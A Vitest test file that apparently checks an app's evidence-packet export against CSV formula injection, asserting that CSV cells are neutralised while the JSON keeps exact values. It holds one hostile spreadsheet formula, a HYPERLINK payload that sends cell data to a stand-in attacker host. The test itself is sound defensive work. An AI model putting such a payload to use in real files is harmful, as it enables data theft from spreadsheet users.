/**
 * A seller named like a spreadsheet formula does not become one in the packet's
 * data/*.csv (read with Python's csv module), while data/*.json keeps the exact name.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { buildDemoCase } from '../../../../electron/core/demo/build-demo-case';
import { closeCase, type CaseStore } from '../../../../electron/core/store/open';
import { analyseCase } from '../../../../electron/core/graph/analyse';
import { exportPacket } from '../../../../electron/core/evidence/packet';
import { tempDir } from '../../../support/bundles';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Doe")';
let dir: string;
let store: CaseStore;
let root: string;

beforeAll(async () => {
  dir = tempDir('ringlens-csvinj-');
  store = await buildDemoCase(join(dir, 'demo.ringlens'));
  const ring = analyseCase(store.db).analysis.rings[0]!;
  // Every member's label, as a hostile bundle would have stated it.
  const relabel = store.db.prepare('UPDATE entities SET label = ? WHERE id = ?');
  for (const m of [...ring.sellers, ...ring.shops]) relabel.run(FORMULA, m.id);
  const zip = join(dir, 'p.zip');
  await exportPacket(
    store.db,
    join(dir, 'demo.ringlens'),
    {
      type: 'civil-sellers',
      ringId: ring.id,
      date: new Date().toISOString().slice(0, 10),
      preparer: 'Jane Examiner',
    },
    zip,
    'tester',
  );
  root = join(dir, 'unpacked');
  execFileSync('unzip', ['-q', zip, '-d', root]);
}, 120_000);
afterAll(() => {
  closeCase(store);
  rmSync(dir, { recursive: true, force: true });
});

describe('packet data/*.csv', () => {
  it('has no cell a spreadsheet would run, and the JSON keeps the exact value', () => {
    const csvs = readdirSync(join(root, 'data')).filter((f) => f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThan(0);
    let sawFormula = false;
    for (const f of csvs) {
      const cells = JSON.parse(
        execFileSync(
          'python3',
          [
            '-c',
            'import csv,sys,json; print(json.dumps([c for r in csv.reader(open(sys.argv[1], newline="")) for c in r]))',
            join(root, 'data', f),
          ],
          { encoding: 'utf8' },
        ),
      ) as string[];
      for (const c of cells) {
        if (c.includes('HYPERLINK')) sawFormula = true;
        if (!Number.isNaN(Number(c)) && c.trim() !== '') continue;
        expect(c, `${f}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(sawFormula, 'the hostile label reached a CSV').toBe(true);
    const json = readdirSync(join(root, 'data'))
      .filter((f) => f.endsWith('.json'))
      .map((f) => readFileSync(join(root, 'data', f), 'utf8'))
      .join('\n');
    expect(json).toContain(JSON.stringify(FORMULA).slice(1, -1));
    expect(readFileSync(join(root, 'VERIFY.txt'), 'utf8')).toContain("added '");
  });
});
